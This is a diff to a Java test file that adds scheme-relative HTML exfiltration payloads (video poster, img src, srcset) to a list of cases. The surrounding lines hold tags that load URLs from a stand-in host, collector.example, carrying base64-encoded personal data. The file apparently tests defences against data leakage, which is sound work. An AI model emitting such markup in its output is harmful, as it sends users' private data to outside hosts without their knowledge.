@@ -459,6 +459,10 @@ class AgentPresetTest {
                 "<audio src='" + u + "'></audio>",
                 "<base href=\"https://collector.example/QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ/\"><img src=\"p.png\">",
                 "<div style=\"background:url(" + " ".repeat(70) + u + ")\">x</div>",
+                // scheme-relative, after a space or a srcset's comma (for <img> too)
+                "<video poster= \"" + u.substring(6) + "\"></video>",
+                "<img src= \"" + u.substring(6) + "\">",
+                "<source srcset=\"https://cdn.example.com/a.png 1x, " + u.substring(6) + " 2x\">",
                 "<style>body{background:url(https://collector.example/" + "assets/".repeat(30) + "p.png?d="
                         + "QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)}</style>",
                 "<svg><use href=\"" + u + "#icon\"/></svg>",
